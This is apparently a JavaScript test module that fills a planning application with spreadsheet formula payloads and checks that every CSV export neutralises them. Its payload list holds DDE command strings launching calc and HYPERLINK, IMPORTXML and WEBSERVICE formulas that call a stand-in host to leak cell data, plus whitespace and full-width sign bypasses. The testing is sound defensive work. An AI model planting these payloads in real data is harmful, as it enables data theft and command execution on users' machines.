// Cells that a spreadsheet would reckon out: what begins with one of the signs of a formula, in every
// column of text of every CSV, read back as a spreadsheet reads it.

import { demo, expect } from "../browser.mjs";
import { call, make, read } from "./api.mjs";

const SIGNS = ["=", "+", "-", "@", "＝", "＋", "－", "＠"];
const BODIES = [
  "1+1",
  "cmd|' /C calc'!A0",
  'HYPERLINK("https://xss.example/"&A1,"x")',
  "SUM(A1:A9)",
  'DDE("a";"b";"c")',
  'IMPORTXML("//xss.example","//a")',
  'WEBSERVICE("//xss.example")',
  "2+3+cmd|'/c x'!A1",
  "1",
  "A1",
  "-1",
  "=1",
  "'1",
  '"1"',
  "1;=2+3",
  "1,=2+3",
  "1\n=2+3",
  "inf",
  "1e5",
  "0x1F",
];
/** What only begins with a sign once a spreadsheet has taken away what stands before it. */
const BEFORE = [" =1+1", "\t=1+1", "\r=1+1", "\n=1+1", "\u00A0=1+1", '"=1+1', "'=1+1"];
export const formulas = [...SIGNS.flatMap((sign) => BODIES.map((body) => sign + body)), ...BEFORE];

/** The rows of a CSV as RFC 4180 has them. */
export function rowsOf(csv) {
  const rows = [[]];
  for (const [, quoted, plain, end] of csv
    .replace(/^\uFEFF/, "")
    .matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r?\n|$)/gy)) {
    rows.at(-1).push(quoted === undefined ? plain : quoted.replaceAll('""', '"'));
    if (end !== "," && end !== "") rows.push([]);
    if (end === "") break;
  }
  return rows.filter((row) => row.length > 1 || row[0] !== "");
}

const isNumber = (cell) => /^[+-]?\d+(\.\d+)?(e[+-]?\d+)?$/i.test(cell);
/** Whether a spreadsheet would reckon it out: numbers may begin with a sign. */
export const isFormula = (cell) => /^\s*[=+\-@＝＋－＠\t\r]/u.test(cell) && !isNumber(cell.trim());

const inOneLine = (text) => text.replaceAll(/[\n\r\t]/g, " ").trim();

/** A plan in which all that a CSV shows begins with a sign: formulas in turn, or each everywhere. */
async function fillPlan(everything) {
  const plan = (
    await make("plan_lead", "/plans", {
      title: "Formulas",
      stage: "in_delivery",
      shared_from: "2025-01-06",
    })
  ).id;
  const area = (await read("plan_lead", "/areas?limit=1")).items[0].id;
  const manager = (await read("manager", "/me")).person.id;
  let turn = 0;
  const posts = [];
  const rows = everything ? formulas.length : 24;
  for (let row = 0; row < rows; row += 1) {
    // Every column gets another one, and with as many rows as formulas each gets all.
    const next = () => formulas[(everything ? row : (turn += 1)) % formulas.length];
    const line = (most) => [...inOneLine(next())].slice(0, most).join("");
    const holders = [{ person: manager, from: "2024-01-01" }];
    // No two may be called the same.
    posts.unshift(
      (
        await make("plan_lead", "/posts", {
          title: `${line(100)} ${row}`,
          organisation: line(200),
          holders,
        })
      ).id,
    );
    const action = await make("plan_lead", "/actions", {
      plan,
      reference: `${line(14)} ${row}`,
      title: line(200),
      areas: [area],
      owner: posts[0],
      contributors: posts.slice(1, 2),
      starts_on: "2025-01-06",
      due_on: "2025-03-31",
      success_criterion: next(),
      outcome: next(),
      blocked_reason: next(),
    });
    await make("manager", `/actions/${action.id}/updates`, {
      done: next(),
      difference: next(),
      declared: "off_track",
      declared_reason: next(),
      path_to_green: next(),
    });
    const measure = await make("plan_lead", "/measures", {
      plan,
      title: line(200),
      definition: next(),
      unit: line(30),
      direction: "higher",
      frequency: "monthly",
    });
    await make("plan_lead", `/measures/${measure.id}/readings`, {
      as_at: "2025-01-15",
      value: -1,
      source: line(200),
      quality_note: next(),
    });
  }
  return plan;
}

/** The name of who writes updates and readings stands in a column too. */
async function eachName(plan, look, names) {
  for (const role of ["manager", "plan_lead"]) {
    const { id, name } = (await read(role, "/me")).person;
    for (const formula of names) {
      await rename(id, inOneLine(formula));
      await look(
        role === "manager" ? `/updates?plan=${plan}&limit=1` : `/readings?plan=${plan}&limit=1`,
      );
    }
    await rename(id, name);
  }
}

async function rename(id, name) {
  const { etag } = await call("administrator", "GET", `/api/v1/people/${id}`);
  const answer = await call(
    "administrator",
    "PATCH",
    `/api/v1/people/${id}`,
    { name },
    { "if-match": etag },
  );
  expect(answer.status === 200, `nobody can be called ${name}: ${answer.text}`);
}

/**
 * Reads every CSV back: the API's lists, and the file that a page gives to whoever is signed in there.
 * Answers with what stood in which column, and how many cells were read.
 */
export async function tryFormulas(lists, everything, page) {
  const plan = await fillPlan(everything);
  const columns = new Map();
  let cells = 0;
  const look = async (path, given) => {
    const csv =
      given ??
      (await call("plan_lead", "GET", `/api/v1${path}`, undefined, { accept: "text/csv" })).text;
    const [head, ...rows] = rowsOf(csv);
    for (const row of rows) {
      expect(
        row.length === head.length,
        `${path}: a row of ${row.length} cells under ${head.length} columns`,
      );
      for (const [at, cell] of row.entries()) {
        cells += 1;
        expect(
          !isFormula(cell),
          `${path}: ${head[at]} is a formula: ${JSON.stringify(cell.slice(0, 60))}`,
        );
        if (/^'[=+\-@＝＋－＠]/.test(cell)) {
          const name = `${path.split("?")[0].replace(/[0-9a-f-]{36}/, "…")} ${head[at]}`;
          columns.set(name, (columns.get(name) ?? new Set()).add(cell));
        }
      }
    }
  };
  const [measure] = (await read("plan_lead", `/measures?plan=${plan}&limit=1`)).items;
  const [action] = (await read("plan_lead", `/actions?plan=${plan}&limit=1`)).items;
  for (const list of lists) {
    const path = list
      .replace("/api/v1", "")
      .replace("{plan}", plan)
      .replace("{document}", "action-plan.csv")
      .replace("{measure}", measure.id)
      .replace("{action}", action.id);
    await look(path === list.replace("/api/v1", "") ? `${path}?plan=${plan}&limit=200` : path);
  }
  const file = await page.request.get(new URL(`/actions.csv?plan=${plan}`, demo.url).href);
  await look("/actions.csv of the pages", await file.text());
  await eachName(plan, look, everything ? formulas : formulas.filter((_, at) => at % 20 === 0));
  return { plan, columns, cells };
}

/** The lists that the contract says can be had as CSV. */
export const csvLists = ({ paths }) =>
  Object.entries(paths).flatMap(([path, { get }]) =>
    JSON.stringify(get?.responses ?? {}).includes('"text/csv"') ? [path] : [],
  );
